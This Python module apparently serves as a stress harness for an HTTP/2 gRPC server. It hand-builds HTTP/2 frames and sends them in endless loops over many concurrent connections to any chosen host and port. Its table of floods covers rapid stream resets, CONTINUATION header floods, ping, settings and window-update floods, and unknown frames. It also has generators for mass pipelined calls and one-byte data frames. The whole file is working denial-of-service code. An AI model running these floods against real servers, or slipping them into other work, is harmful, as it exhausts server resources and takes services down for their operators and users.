"""Frames of HTTP/2 that cost a sender nothing, sent without end: no call comes to its end, and no answer is read."""

from __future__ import annotations

import asyncio
import struct
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from typing import Final

_BLOCK_BYTES: Final = 1 << 18
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS = 0, 1, 2, 3, 4
_PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION, _UNKNOWN = 6, 7, 8, 9, 0x77
_ACK: Final = 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame as bytes."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: bytes, value: bytes) -> bytes:
    """Make a header field that no table has and that none is to keep."""
    return b"\0" + _length(name) + name + _length(value) + value


def _length(text: bytes) -> bytes:
    """Make the length of a string that is not compressed (RFC 7541, 5.1)."""
    if len(text) < 127:
        return bytes((len(text),))
    left, told = len(text) - 127, bytearray(b"\x7f")
    while left >= 128:
        told.append(left % 128 + 128)
        left //= 128
    told.append(left)
    return bytes(told)


_FIELDS: Final = {
    b":method": b"POST",
    b":scheme": b"http",
    b":path": b"/grpc.health.v1.Health/Check",
    b":authority": b"x",
    b"te": b"trailers",
    b"content-type": b"application/grpc",
}
_CALL: Final = b"".join(_field(name, value) for name, value in _FIELDS.items())
_HEAD: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)
_ACKNOWLEDGED: Final = _HEAD + frame(_SETTINGS, _ACK, 0)
_BEGUN: Final = _ACKNOWLEDGED + frame(_HEADERS, 4, 1, _CALL)
_MORE_FIELDS: Final = frame(_CONTINUATION, 0, 1, _field(b"a", b"b" * 120))

FLOODS: Final[Mapping[str, tuple[bytes, bytes]]] = {
    "window updates": (_ACKNOWLEDGED, frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "window updates of a call": (_BEGUN, frame(_WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
    "window updates of no call": (_ACKNOWLEDGED, frame(_WINDOW_UPDATE, 0, 99, struct.pack(">I", 1))),
    "pings": (_ACKNOWLEDGED, frame(_PING, 0, 0, bytes(8))),
    "answers to pings": (_ACKNOWLEDGED, frame(_PING, _ACK, 0, bytes(8))),
    "settings": (_ACKNOWLEDGED, frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "empty data": (_BEGUN, frame(_DATA, 0, 1)),
    "priorities": (_BEGUN, frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 5))),
    "resets": (_BEGUN, frame(_RST_STREAM, 0, 1, struct.pack(">I", 8))),
    "goodbyes": (_ACKNOWLEDGED, frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0))),
    "unknown frames": (_ACKNOWLEDGED, frame(_UNKNOWN, 0, 0, bytes(16_000))),
    "headers": (_ACKNOWLEDGED + frame(_HEADERS, 0, 1, _CALL), _MORE_FIELDS),
    "empty headers": (_ACKNOWLEDGED + frame(_HEADERS, 0, 1, _CALL), frame(_CONTINUATION, 0, 1)),
}
"""By name, how a connection begins, and the frame that is then repeated."""

UNACKNOWLEDGED: Final = (_HEAD + frame(_HEADERS, 0, 1, _CALL), _MORE_FIELDS)
"""The same of headers, where the settings of the server are not acknowledged, which say how long headers may be."""


CALLS_AT_ONCE: Final = 200


def refused_calls(path: bytes, *, token: bytes) -> Iterator[bytes]:
    """Make what a connection sends that has call after call, so many at once, each complete and without a request."""
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    block = b"".join(_field(name, value) for name, value in fields.items())
    yield _ACKNOWLEDGED
    for first in range(1, 1 << 30, 2 * CALLS_AT_ONCE):
        yield b"".join(frame(_HEADERS, 5, first + 2 * number, block) for number in range(CALLS_AT_ONCE))


def message_by_the_byte(path: bytes, *, token: bytes, message_bytes: int) -> Iterator[bytes]:
    """Make what a connection sends that has one call, whose message comes in frames of one byte each."""
    fields = _FIELDS | {b":path": path, b"authorization": b"Bearer " + token}
    yield _ACKNOWLEDGED + frame(_HEADERS, 4, 1, b"".join(_field(name, value) for name, value in fields.items()))
    message = struct.pack(">BI", 0, message_bytes) + bytes(message_bytes)
    for at in range(0, len(message), 1000):
        yield b"".join(frame(_DATA, 0, 1, message[byte : byte + 1]) for byte in range(at, min(at + 1000, len(message))))


async def flood(
    host: str, port: int, frames: tuple[bytes, bytes], until: float, *, connections: int, source: str = "127.0.0.1"
) -> tuple[int, int]:
    """Send these frames over so many connections until that time; the bytes sent, and how often the server hung up."""
    beginning, repeated = frames
    block = repeated * (_BLOCK_BYTES // len(repeated))
    sent = ended = 0

    async def one() -> None:
        nonlocal sent, ended
        while time.monotonic() < until:
            _, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
            try:
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    writer.write(beginning)
                    while True:
                        writer.write(block)
                        await writer.drain()
                        sent += len(block)
            except TimeoutError:
                pass
            except OSError:
                ended += 1
                await asyncio.sleep(0.01)
            finally:
                writer.transport.abort()

    with suppress(OSError):
        await asyncio.gather(*(one() for _ in range(connections)))
    return sent, ended
